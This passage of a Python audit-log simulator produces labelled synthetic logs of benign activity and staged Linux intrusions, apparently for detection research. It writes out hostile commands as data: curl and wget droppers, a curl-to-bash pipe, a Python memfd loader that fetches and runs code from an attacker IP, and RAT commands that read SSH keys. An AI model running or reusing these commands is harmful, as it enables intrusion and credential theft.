            for f in ("src/" + r.choice(_PROJECT_SRC), "README.md", "Makefile")[: 1 + r.below(3)]:
                self.write_file(g, f, 500 + r.below(8000), mode=0o666)
            self.write_file(g, ".git/index.lock", 4000, O_RDWR | O_CREAT | O_EXCL, 0o666)
            self.rename(g, ".git/index.lock", ".git/index", replace=True)
            self.write_file(g, ".git/ORIG_HEAD", 41, mode=0o666)
        self.write(g, 1, 120)
        self.exit(g)

    def _build(self, sh: _Proc):
        """make: gcc → cc1 (reads sources, headers) → as (.o) per source; ld; chmod +x; run."""
        r = self.r
        mk = self.spawn(sh, "/usr/bin/make", ["make", "test"])
        self.read_file(mk, "Makefile", 720)
        srcs = list(_PROJECT_SRC[: 2 + r.below(4)])
        for src in srcs:
            obj = "build/" + src[:-2] + ".o"
            csh = self.spawn(
                mk, "/bin/sh", ["/bin/sh", "-c", f"gcc -O2 -Wall -c src/{src} -o {obj}"]
            )
            self.execve(csh, "/usr/bin/gcc", ["gcc", "-O2", "-Wall", "-c", "src/" + src, "-o", obj])
            tmp = f"/tmp/cc{r.token(6)}.s"
            cc1 = self.spawn(
                csh,
                "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
                [
                    "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
                    "-quiet",
                    "src/" + src,
                    "-quiet",
                    "-dumpbase",
                    src,
                    "-O2",
                    "-Wall",
                    "-o",
                    tmp,
                ],
            )
            self.read_file(cc1, "src/" + src, 2000 + r.below(20000))
            for hdr in _HEADERS[: 2 + r.below(4)]:
                self.read_file(cc1, hdr, 3000 + r.below(30000))
            self.write_file(cc1, tmp, 5000 + r.below(60000), mode=0o666)
            self.exit(cc1)
            as_ = self.spawn(csh, "/usr/bin/as", ["as", "--64", "-o", obj, tmp])
            self.read_file(as_, tmp, 20000)
            self.write_file(as_, obj, 3000 + r.below(30000), O_RDWR | O_CREAT | O_TRUNC, 0o666)
            self.exit(as_)
            self.unlink(csh, tmp, no=87)
            self.exit(csh)
            yield 0.05 + r.u() * 0.4
        lsh = self.spawn(mk, "/bin/sh", ["/bin/sh", "-c", "gcc -o test_runner build/*.o"])
        objs = ["build/" + s[:-2] + ".o" for s in srcs]
        self.execve(lsh, "/usr/bin/gcc", ["gcc", "-o", "test_runner", *objs])
        ld = self.spawn(lsh, "/usr/bin/ld", ["/usr/bin/ld", "-o", "test_runner", *objs, "-lc"])
        for o in objs:
            self.read_file(ld, o, 20000)
        for lib in (
            "/usr/lib/x86_64-linux-gnu/crt1.o",
            "/usr/lib/x86_64-linux-gnu/crti.o",
            "/usr/lib/x86_64-linux-gnu/libc.so",
            "/usr/lib/x86_64-linux-gnu/libc_nonshared.a",
        ):
            self.read_file(ld, lib, 10000)
        self.write_file(
            ld, "test_runner", 40000 + r.below(200000), O_RDWR | O_CREAT | O_TRUNC, 0o777
        )
        self.exit(ld)
        self.exit(lsh)
        ch = self.spawn(mk, "/bin/sh", ["/bin/sh", "-c", "chmod +x test_runner"])
        self.execve(ch, "/usr/bin/chmod", ["chmod", "+x", "test_runner"])
        self.chmod(ch, "test_runner", 0o755)
        self.exit(ch)
        run = self.spawn(mk, "/bin/sh", ["/bin/sh", "-c", "./test_runner --quick"])
        self.execve(run, "./test_runner", ["./test_runner", "--quick"])
        for k in range(2 + r.below(4)):
            self.read_file(run, f"tests/data/case{k}.txt", 300 + r.below(3000))
        self.write(run, 1, 400 + r.below(2000))
        yield 0.1 + r.u()
        self.exit(run)
        self.exit(mk)

    def _sudo_restart_nginx(self, user: str, sh: _Proc):
        r = self.r
        su = self.spawn(sh, "/usr/bin/sudo", ["sudo", "systemctl", "restart", "nginx"], euid=0)
        self.read_file(su, "/etc/sudoers", 1714)
        self.read_file(su, "/etc/sudoers.d/README", 958)
        self.read_file(su, "/etc/passwd", 1843)
        self._pam(
            "USER_ACCT",
            su,
            "PAM:accounting",
            user,
            "/usr/bin/sudo",
            "?",
            "?",
            f"/dev/{sh.tty.replace('pts', 'pts/')}",
        )
        self._user(
            "USER_CMD",
            su,
            "",
            raw=(
                f"pid={su.pid} uid={su.uid} auid={su.auid} ses={su.ses} subj=unconfined "
                f"msg='cwd={encode_value(sh.cwd)} "
                f"cmd={encode_value('systemctl restart nginx')} "
                f'exe="/usr/bin/sudo" terminal={sh.tty.replace("pts", "pts/")} res=success\''
            ),
        )
        self._pam(
            "CRED_REFR",
            su,
            "PAM:setcred",
            "root",
            "/usr/bin/sudo",
            "?",
            "?",
            f"/dev/{sh.tty.replace('pts', 'pts/')}",
        )
        self._pam(
            "USER_START",
            su,
            "PAM:session_open",
            "root",
            "/usr/bin/sudo",
            "?",
            "?",
            f"/dev/{sh.tty.replace('pts', 'pts/')}",
        )
        sc = self.spawn(su, "/usr/bin/systemctl", ["systemctl", "restart", "nginx"], user="root")
        s = self.socket(sc, 1, 0x80001)
        self.connect(sc, s, "/run/systemd/private", 0)
        sd = self.systemd
        dfd = self.accept(sd, sd.x["listen"], "/run/systemd/private", 0)
        self.send(sc, s, 180)
        self.recv(sd, dfd, 180)
        yield 0.05 + r.u() * 0.1
        self._stop_nginx()
        self._start_nginx()
        self.send(sd, dfd, 60)
        self.recv(sc, s, 60)
        self.close(sd, dfd)
        self.close(sc, s)
        self.exit(sc)
        self._pam(
            "USER_END",
            su,
            "PAM:session_close",
            "root",
            "/usr/bin/sudo",
            "?",
            "?",
            f"/dev/{sh.tty.replace('pts', 'pts/')}",
        )
        self._pam(
            "CRED_DISP",
            su,
            "PAM:setcred",
            "root",
            "/usr/bin/sudo",
            "?",
            "?",
            f"/dev/{sh.tty.replace('pts', 'pts/')}",
        )
        self.exit(su)

    def _crontab_e(self, user: str, sh: _Proc):
        r = self.r
        ct = self.spawn(sh, "/usr/bin/crontab", ["crontab", "-e"], egid=_CRONTAB_GID)
        spool = f"/var/spool/cron/crontabs/{user}"
        self.read_file(ct, spool, 1100)
        tmpdir = f"/tmp/crontab.{r.token(6)}"
        tmp = tmpdir + "/crontab"
        self.write_file(ct, tmp, 1100, O_RDWR | O_CREAT | O_EXCL, 0o600)
        ed = self.spawn(ct, "/usr/bin/editor", ["/usr/bin/editor", tmp])
        self.read_file(ed, tmp, 1100)
        yield 5 + r.expo(20)
        self.write_file(ed, tmp, 1160)
        self.exit(ed)
        self.read_file(ct, tmp, 1160)
        new = f"/var/spool/cron/crontabs/tmp.{r.token(6)}"
        self.write_file(ct, new, 1160, O_RDWR | O_CREAT | O_EXCL, 0o600)
        self.rename(ct, new, spool)
        self.unlink(ct, tmp, no=87)
        self.exit(ct)

    # ===== attacks ======================================================================
    def _inject(self, a: _Attack, ip: str, script: str, cmd: str):
        """An HTTP request from ``ip`` to a vulnerable PHP script that popen()s ``sh -c cmd``.

        Returns (as a sub-generator's value) ``(sh, finish)`` where ``finish()``
        completes the request once the shell is done.
        """
        r = self.r
        w = r.choice(self.nginx_workers)
        port = self.eport()
        cfd = self.accept(w, w.x["listen"], ip, port)
        a.sockets.add(f"{ip}:{port}")
        self.step(a, "exploit_request")
        a.entry.add(w.pid)
        self.recv(w, cfd, 900 + r.below(400))
        while True:
            got = self._php_begin(w, script, 900)
            if got is not None:
                break
            yield 0.5
            if not w.alive:
                return None
        php, pfd, s = got
        php.x["busy"] = True
        a.entry.add(php.pid)
        self.read_file(php, "/var/www/html/lib/util.php", 4100)
        rd, wr = self.pipe(php)
        sh = self.spawn(
            php, "/bin/sh", ["sh", "-c", cmd], tag=a, stdout=wr, close=(rd, wr), flags=_SPAWN_FLAGS
        )
        self.step(a, "command_injection", self.exec_mark)
        self.close(php, wr)

        def finish():
            self.read(php, rd, 40 + r.below(200))
            self.read(php, rd, 0)
            self.close(php, rd)
            php.x["busy"] = False
            if w.alive:  # nginx may have been restarted meanwhile
                self._php_end(w, cfd, php, pfd, s, 180)
                self.write(w, w.x["access"], 230)
                self.close(w, cfd)
            else:
                self.write(php, pfd, 220)
                self.close(php, pfd)

        return sh, finish

    def _download(
        self,
        a: _Attack | None,
        parent: _Proc,
        tool: str,
        url_ip: str,
        path: str,
        dest: str,
        size: int,
        to_stdout: bool = False,
        argv: list[str] | None = None,
        hops: tuple[tuple[str, int], ...] = (),
    ) -> _Proc:
        """curl/wget ``http://url_ip/path`` to ``dest`` (or to stdout).

        Args:
          a: the attack (records ``download``/``drop_file`` steps), None if benign.
          parent: the shell that runs the tool.
          tool: ``"curl"`` or ``"wget"``.
          url_ip, path: the server (port 80 unless ``hops``) and the URL path.
          dest: the output file; ``to_stdout``: write to fd 1 instead.
          size: bytes received and written.
          argv: the command line (default: built from the URL).
          hops: ``(ip, port)`` servers visited in order (HTTP redirects); the
            body comes from the last one.
        """
        url = f"http://{url_ip}/{path}"
        if argv is None:
            if tool == "curl":
                argv = (
                    ["curl", "-s", url]
                    if to_stdout
                    else ["curl", "-s", "--create-dirs", url, "-o", dest]
                )
            else:
                argv = ["wget", "-q", url, "-O", dest]
        c = self.spawn(parent, "/usr/bin/" + tool, argv)
        self.read_file(c, "/etc/ssl/openssl.cnf", 12000)
        hops = hops or ((url_ip, 80),)
        for k, (ip, port) in enumerate(hops):
            s = self.socket(c, 2, 0x80801)
            self.connect(c, s, ip, port)
            if a is not None and k == 0:
                self.step(a, "download")
            self.send(c, s, 90 + len(path))
            if k + 1 < len(hops):
                self.recv(c, s, 600)  # a redirect
                self.close(c, s)
        fd = 1 if to_stdout else self.open(c, dest, O_WRONLY | O_CREAT | O_TRUNC, 0o666)
        if a is not None and not to_stdout:
            self.step(a, "drop_file")
        while size > 0:
            n = min(size, 16384)
            self.recv(c, s, n)
            self.write(c, fd, n)
            size -= n
        if not to_stdout:
            self.close(c, fd)
        self.close(c, s)
        self.exit(c)
        return c

    def _chmod_x(self, a: _Attack, parent: _Proc, path: str) -> None:
        c = self.spawn(parent, "/usr/bin/chmod", ["chmod", "+x", path])
        self.chmod(c, path, 0o755)
        self.step(a, "chmod")
        self.exit(c)

    def _atk_web_exploit(self, a: _Attack):
        r = self.r
        ip = self.attacker_ip()
        exfil_ip = ip if r.chance(0.5) else self.attacker_ip()
        a.ips.extend(dict.fromkeys((ip, exfil_ip)))
        # the first attack of the kind works in /tmp/.cache, later ones elsewhere
        work = "/tmp/.cache" if a.id.endswith("-0") else f"/tmp/.cache-{r.token(5)}"
        x, archive = f"{work}/x", f"{work}/d.tgz"
        cmd = f"curl -s --create-dirs http://{ip}/x -o {x}; chmod +x {x}; {x} >/dev/null 2>&1 &"
        got = yield from self._inject(a, ip, "api/export.php", cmd)
        if got is None:
            return
        sh, finish = got
        yield 0.3 + r.u()
        self._download(a, sh, "curl", ip, "x", x, 200_000 + r.below(400_000))
        yield 0.2 + r.u()
        self._chmod_x(a, sh, x)
        yield 0.1 + r.u() * 0.5
        imp = self.fork(sh)
        fd = self.open(imp, "/dev/null", O_WRONLY | O_CREAT | O_TRUNC)
        self.dup2(imp, fd, 1)
        self.close(imp, fd)
        self.dup2(imp, 1, 2)
        self.execve(imp, x, [x], static=True)
        self.step(a, "execute")
        d = self.fork(imp)  # daemonise: the child stays, the parent exits
        self.exit(imp)
        d.argv = ["[kworker/u8:2]"]
        d.retail()
        self.exit(sh)
        finish()
        yield 5.0 + r.expo(20.0)
        # --- privilege escalation (root persistence) or not (bashrc)
        actor = d
        if a.variant in ("cron", "systemd"):
            d.cwd = work
            self.write_file(d, "pwnkit/gconv-modules", 120, mode=0o644)
            self.write_file(d, "pwnkit/pwnkit.so", 14200, mode=0o755)
            self.write_file(d, "GCONV_PATH=./pwnkit", 0, O_WRONLY | O_CREAT, 0o755)
            pk, wr = self.feed(d, "/usr/bin/pkexec", [], euid=0)
            self.read_file(pk, "pwnkit/gconv-modules", 120)
            fd = self.open(pk, "pwnkit/pwnkit.so")
            self.mmap(pk, fd)
            self.close(pk, fd)
            self.setuid(pk, "root")
            self.execve(pk, "/bin/sh", ["/bin/sh"])
            self.step(a, "privilege_escalation", self.exec_mark)
            actor = pk
            yield 1.0 + r.u() * 3
            self.write(d, wr, 80)
            self.read(pk, 0, 80)
        # --- persistence
        if a.variant == "cron":
            name = r.choice(("php-sessionclean", "e2scrub-all", "apt-compat-check"))
            a.persistence = f"/etc/cron.d/{name}"
            self.write_file(actor, a.persistence, 60, O_WRONLY | O_CREAT | O_TRUNC, 0o644)
        elif a.variant == "systemd":
            name = r.choice(("dbus-broker-helper", "systemd-netlogd", "kmod-static-nodes-ext"))
            a.persistence = f"/etc/systemd/system/{name}.service"
            self.write_file(actor, a.persistence, 230, O_WRONLY | O_CREAT | O_TRUNC, 0o644)
            sc = self.spawn(actor, "/usr/bin/systemctl", ["systemctl", "enable", name])
            s = self.socket(sc, 1, 0x80001)
            self.connect(sc, s, "/run/systemd/private", 0)
            self.send(sc, s, 150)
            self.recv(sc, s, 90)
            self.close(sc, s)
            self.exit(sc)
        else:
            a.persistence = "/var/www/.bashrc"
            self.write_file(actor, a.persistence, 48, O_WRONLY | O_CREAT | O_APPEND, 0o644)
        self.step(a, "persistence")
        yield 3.0 + r.expo(15.0)
        # --- credential access
        targets = ["/etc/passwd", "/etc/shadow", "/var/www/config.php"]
        readable = []
        for t in targets:
            denied = t == "/etc/shadow" and actor.euid != 0
            if self.read_file(actor, t, 900, errno=13 if denied else 0):
                readable.append(t)
                a.reads.add(t)
            if t == targets[0]:
                self.step(a, "read_sensitive")
        yield 1.0 + r.u() * 4
        if actor is not d:
            self.write(d, wr, 90)
            self.read(actor, 0, 90)
        self._tar(actor, archive, readable)
        self.step(a, "archive")
        yield 2.0 + r.expo(10.0)
        # --- exfiltration by the implant
        port = r.choice((443, 8080))
        s = self.socket(d, 2, 0x80001)
        self.connect(d, s, exfil_ip, port)
        fd = self.open(d, archive)
        self.read(d, fd, 3000)
        self.send(d, s, 3000)
        self.step(a, "exfiltrate")
        self.send(d, s, 1200)
        self.recv(d, s, 40)
        self.close(d, fd)
        self.close(d, s)
        yield 1.0 + r.u() * 2
        self.unlink(d, archive)
        self.step(a, "cleanup")
        if actor is not d:
            self.close(d, wr)
            self.read(actor, 0, 0)
            self.exit(actor)
        self.exit(d)
        a.done = True

    def _pipe_to_bash(self, a: _Attack, sh: _Proc, ip: str):
        """``curl -s http://ip/p.sh | bash`` from shell ``sh``; returns the reading bash."""
        r = self.r
        rd, wr = self.pipe(sh, 0)
        curl = self.fork(sh)
        self.dup2(curl, wr, 1)
        self.close(curl, rd)
        self.close(curl, wr)
        bash = self.fork(sh)
        self.dup2(bash, rd, 0)
        self.close(bash, rd)
        self.close(bash, wr)
        self.close(sh, rd)
        self.close(sh, wr)
        self.execve(curl, "/usr/bin/curl", ["curl", "-s", f"http://{ip}/p.sh"])
        self.execve(bash, "/usr/bin/bash", ["bash"])
        s = self.socket(curl, 2, 0x80801)
        self.connect(curl, s, ip, 80)
        self.step(a, "download")
        self.send(curl, s, 80)
        for i in range(2):
            self.recv(curl, s, 900)
            self.write(curl, 1, 900)
            if i == 0:
                self.step(a, "pipe_to_shell")
            self.read(bash, 0, 900)
            if i == 0:
                self.step(a, "shell_from_pipe")
        self.close(curl, s)
        self.exit(curl)
        self.read(bash, 0, 0)
        yield 0.05 + r.u() * 0.2
        return bash

    def _memfd_payload(self, a: _Attack, bash: _Proc, ip: str, fork: bool = True):
        """python3 downloads a payload into a memfd and executes it; recon; C2.

        ``fork``: bash runs python in the foreground (a child); else ``bash`` is a
        background subshell that executes python itself.
        """
        r = self.r
        c2 = r.choice((443, 8443))
        code = (
            f"import os,socket;s=socket.create_connection(('{ip}',{c2}));"
            "s.send(b'GET /k');f=os.memfd_create('kworker',0);"
            "[os.write(f,c) for c in iter(lambda:s.recv(65536),b'')];"
            "os.execv('/proc/self/fd/%d'%f,['kworker'])"
        )
        if fork:
            py = self.spawn(bash, "/usr/bin/python3", ["python3", "-c", code])
        else:
            py = bash
            self.execve(py, "/usr/bin/python3", ["python3", "-c", code])
        for m in _PY_MODULES:
            self.read_file(
                py,
                "/usr/lib/python3.11/__pycache__/" + m[:-3] + ".cpython-311.pyc",
                4000 + r.below(30000),
            )
        s = self.socket(py, 2, 0x80001)
        self.connect(py, s, ip, c2)
        self.step(a, "payload_download")
        self.send(py, s, 6)
        m = self.memfd(py, "kworker")
        self.step(a, "memfd_create")
        for _ in range(3 + r.below(4)):
            self.recv(py, s, 65536)
            self.write(py, m, 65536)
        self.step(a, "memfd_write")
        self.recv(py, s, 0)
        self.close(py, s)
        yield 0.05 + r.u() * 0.3
        self.execve(
            py, f"/proc/self/fd/{m}", ["kworker"], image="/memfd:kworker (deleted)", static=True
        )
        self.step(a, "memfd_execute")  # PATH: /proc/self/fd/N with the memfd's inode
        yield 1.0 + r.u() * 3
        for argv in (["id"], ["uname", "-a"]):
            c, rfd = self.capture(py, "/usr/bin/" + argv[0], argv)
            if argv[0] == "id":
                self.step(a, "recon", self.exec_mark)
                self.read_file(c, "/etc/passwd", 1843)
                self.read_file(c, "/etc/group", 890)
            self.write(c, 1, 90)
            self.exit(c)
            self.read(py, rfd, 90)
            self.close(py, rfd)
            yield 0.3 + r.u()
        self.read_file(py, "/etc/passwd", 1843)
        a.reads.add("/etc/passwd")
        yield 2.0 + r.expo(5.0)
        s = self.socket(py, 2, 0x80001)
        self.connect(py, s, ip, 4444)
        self.step(a, "c2_connect")
        self.send(py, s, 2400)
        for _ in range(2 + r.below(3)):
            self.recv(py, s, 64)
            self.send(py, s, 200 + r.below(600))
            yield 1.0 + r.expo(5.0)
        self.close(py, s)
        self.exit(py)
        return py

    def _atk_fileless(self, a: _Attack):
        r = self.r
        ip = self.attacker_ip()
        a.ips.append(ip)
        if a.variant == "web":
            got = yield from self._inject(
                a, ip, "api/export.php", f"curl -s http://{ip}/p.sh | bash"
            )
            if got is None:
                return
            sh, finish = got
            yield 0.2 + r.u()
            bash = yield from self._pipe_to_bash(a, sh, ip)
            # the script backgrounds python (``python3 -c ... &``): bash and sh return
            sub = self.fork(bash)
            self.exit(bash)
            self.exit(sh)
            finish()
            yield from self._memfd_payload(a, sub, ip, fork=False)
        else:

            def script(user, sh):
                yield 3.0 + r.u() * 5
                self._relay(sh, 40, 10)
                bash = yield from self._pipe_to_bash(a, sh, ip)
                yield from self._memfd_payload(a, bash, ip)
                self.exit(bash)
                yield 2.0 + r.u() * 5

            yield from self._ssh_session("deploy", ip, script, attack=a, password=True)
        a.done = True

    def _atk_rat(self, a: _Attack):
        r, cfg = self.r, self.cfg
        ip = self.attacker_ip()
        c2 = self.attacker_ip() if r.chance(0.5) else ip
        a.ips.extend(dict.fromkeys((ip, c2)))
        port = r.choice((443, 8443, 8080))
        drop = r.choice(("/var/tmp/.updater", "/dev/shm/.kworker"))
        if not a.id.endswith("-0"):
            drop += "-" + r.token(4)
        persist = r.choice(("systemd", "cron"))
        state = {}

        def deliver(sh):
            """wget, chmod +x, nohup ... >/dev/null 2>&1 & from shell ``sh``."""
            self._download(a, sh, "wget", ip, "upd", drop, 150_000 + r.below(300_000))
            yield 0.5 + r.u() * 2
            self._chmod_x(a, sh, drop)
            yield 0.3 + r.u()
            c = self.fork(sh)
            fd = self.open(c, "/dev/null", O_WRONLY | O_CREAT | O_TRUNC)
            self.dup2(c, fd, 1)
            self.close(c, fd)
            self.dup2(c, 1, 2)
            self.execve(c, "/usr/bin/nohup", ["nohup", drop])
            self.execve(c, drop, [drop], static=True)
            self.step(a, "execute")
            state["rat"] = c

        if a.variant == "web":
            got = yield from self._inject(
                a,
                ip,
                "api/export.php",
                f"wget -q http://{ip}/upd -O {drop}; chmod +x {drop}; "
                f"nohup {drop} >/dev/null 2>&1 &",
            )
            if got is None:
                return
            sh, finish = got
            yield from deliver(sh)
            self.exit(sh)
            finish()
        else:

            def script(user, sh):
                yield 2.0 + r.u() * 4
                self._relay(sh, 60, 10)
                yield from deliver(sh)
                yield 1.0 + r.u() * 3

            sess = self._ssh_session("deploy", ip, script, attack=a, password=True)
            # run the login session until the RAT is running; the session then logs out
            while "rat" not in state:
                yield next(sess)
            self.schedule(sess)
        rat = state["rat"]
        yield 3.0 + r.u() * 5
        home = USERS["www-data" if rat.uid == 33 else "deploy"][2]
        if persist == "systemd":
            a.persistence = f"{home}/.config/systemd/user/dbus-session.service"
            self.write_file(rat, a.persistence, 210, O_WRONLY | O_CREAT | O_TRUNC, 0o644)
        else:
            ct, wr = self.feed(rat, "/usr/bin/crontab", ["crontab", "-"], egid=_CRONTAB_GID)
            self.write(rat, wr, 40)
            self.close(rat, wr)
            self.read(ct, 0, 40)
            self.read(ct, 0, 0)
            user = "www-data" if rat.uid == 33 else "deploy"
            a.persistence = f"/var/spool/cron/crontabs/{user}"
            tmp = f"/var/spool/cron/crontabs/tmp.{r.token(6)}"
            self.write_file(ct, tmp, 40, O_RDWR | O_CREAT | O_EXCL, 0o600)
            self.rename(ct, tmp, a.persistence)
            self.exit(ct)
        self.step(a, "persistence")
        a.variant = f"{a.variant}+{persist}"
        for b in range(cfg.rat_beacons):
            yield cfg.rat_beacon_s + (2 * r.u() - 1) * cfg.rat_jitter_s
            command = b == 1 or r.chance(cfg.rat_command_prob)
            s = self.socket(rat, 2, 0x80001)
            self.connect(rat, s, c2, port)
            self.send(rat, s, 64 + r.below(100))
            self.recv(rat, s, 96 if command else 32)
            if b == 0:
                self.step(a, "beacon")
            if command:
                cmd = r.choice(
                    (
                        "whoami",
                        "ps aux",
                        "cat /etc/passwd",
                        "uname -a",
                        f"cat {home}/.ssh/id_rsa",
                        "ls -la /home",
                    )
                )
                c, rfd = self.capture(rat, "/bin/sh", ["sh", "-c", cmd])
                prog = cmd.split()[0]
                self.execve(c, "/usr/bin/" + prog, cmd.split())
                if prog == "cat":
                    self.read_file(c, cmd.split()[1], 1800)
                    a.reads.add(cmd.split()[1])
                elif prog == "ps":
                    for p in [q for q in self.procs.values() if q.alive][:15]:
                        self.read_file(c, f"/proc/{p.pid}/stat", 300)
                elif prog == "ls":
                    fd = self.open(c, "/home", O_RDONLY | O_NONBLOCK | O_CLOEXEC | O_DIRECTORY)
                    self.close(c, fd)
                self.write(c, 1, 200 + r.below(2000))
                self.exit(c)
                self.read(rat, rfd, 2000)
                self.read(rat, rfd, 0)
                self.close(rat, rfd)
                self.send(rat, s, 200 + r.below(2000))
                self.step(a, "command")
            self.close(rat, s)
        self.exit(rat)
        a.done = True


# --- rendering --------------------------------------------------------------------
def _render(ev: tuple, out: list[str]) -> None:
    """Appends the text records of one event to ``out``."""
    if len(ev) == 4:
        ts, serial, typ, body = ev
        out.append(f"type={typ} msg=audit({ts:.3f}:{serial}): {body}")
        return
    ts, serial, no, ok, ex, a0, a1, a2, a3, tail, cwd, paths, aux, title, eoe = ev
    h = f"msg=audit({ts:.3f}:{serial}): "
    if ok is None:
        out.append(
            f"type=SYSCALL {h}arch=c000003e syscall={no} a0={a0:x} a1={a1:x} a2={a2:x} "
            f"a3={a3:x} items=0 {tail} key={_KEY[no]}"
        )
    else:
        out.append(
            f"type=SYSCALL {h}arch=c000003e syscall={no} success={'yes' if ok else 'no'} "
            f"exit={ex} a0={a0:x} a1={a1:x} a2={a2:x} a3={a3:x} items={len(paths)} "
            f"{tail} key={_KEY[no]}"
        )
    for typ, body in aux:
        out.append(f"type={typ} {h}{body}")
    if paths:
        out.append(f"type=CWD {h}cwd={encode_value(cwd)}")
        for i, (name, pre, nt) in enumerate(paths):
            if pre is None:
                out.append(
                    f"type=PATH {h}item={i} name={encode_value(name)} nametype={nt} "
                    "cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"
                )
            else:
                out.append(
                    f"type=PATH {h}item={i} name={encode_value(name)} {pre} nametype={nt} "
                    "cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"
                )
    out.append(f"type=PROCTITLE {h}proctitle={title}")
    if eoe:
        out.append(f"type=EOE {h}")


def _riffle(a: list[str], b: list[str], rr: _Rand) -> list[str]:
    """``a`` and ``b`` merged in a random order that keeps each one's order; ``a[0]`` first."""
    out = [a[0]]
    i, j = 1, 0
    while i < len(a) and j < len(b):
        if rr.u() < 0.5:
            out.append(a[i])
            i += 1
        else:
            out.append(b[j])
            j += 1
    out.extend(a[i:])
    out.extend(b[j:])
    return out


def _unrelated(a: tuple, b: tuple) -> bool:
    """Whether two kernel events come from different processes, neither the other's parent."""
    if len(a) == 4 or len(b) == 4:
        return False
    ppa, pa, _ = a[9].split(" ", 2)
    ppb, pb, _ = b[9].split(" ", 2)
    return pa[4:] != pb[4:] and ppb[5:] != pa[4:] and ppa[5:] != pb[4:]


def _chunks(cfg: HostConfig, seed: int, sim: _Sim | None = None) -> Iterator[list[str]]:
    """The rendered lines, one list per burst.

    Interleaving (``cfg.interleave_fraction``): an event is riffled with the next
    one only when they come from unrelated processes (records of one task are
    never interleaved: its system calls are sequential), so each process's
    events stay in order and complete in order.
    """
    sim = sim or _Sim(cfg, seed)
    rr = _Rand(np.random.default_rng([seed, 1]))
    frac = cfg.interleave_fraction
    prev = None  # the last event, held back until the next one is known
    for batch in sim.run():
        out: list[str] = []
        for ev in batch:
            if prev is not None:
                if frac and rr.u() < frac and _unrelated(prev, ev):
                    x: list[str] = []
                    y: list[str] = []
                    _render(prev, x)
                    _render(ev, y)
                    out.extend(_riffle(x, y, rr))
                    prev = None
                    continue
                _render(prev, out)
            prev = ev
        yield out
    if prev is not None:
        out = []
        _render(prev, out)
        yield out


def generate(config: HostConfig, seed: int) -> tuple[Iterator[str], Truth]:
    """Simulates the host; returns its audit log lines (lazily) and the complete Truth.

    The Truth is computed up front by a dry run of the same seeded simulation
    (no text is rendered); the iterator re-runs it and renders every line.

    Args:
      config: the host, its activity rates and its attacks.
      seed: the seed of every random choice; same seed, same bytes.

    Returns:
      ``(lines, truth)``: lines without trailing newlines, and the :class:`Truth`.
    """
    sim = _Sim(config, seed)
    for _ in sim.run():
        pass
    truth = sim.truth()
    return itertools.chain.from_iterable(_chunks(config, seed)), truth


def write_log(path: str | os.PathLike, config: HostConfig, seed: int) -> Truth:
    """Writes the log to ``path`` and its Truth to ``<path>.truth.json`` (one pass).

    Args:
      path: the log file to write.
      config, seed: as for :func:`generate`.

    Returns:
      The :class:`Truth` (also written as JSON).
    """
    sim = _Sim(config, seed)
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        for chunk in _chunks(config, seed, sim):
            if chunk:
                f.write("\n".join(chunk))
                f.write("\n")
    truth = sim.truth()
    truth.save(f"{os.fspath(path)}.truth.json")
    return truth
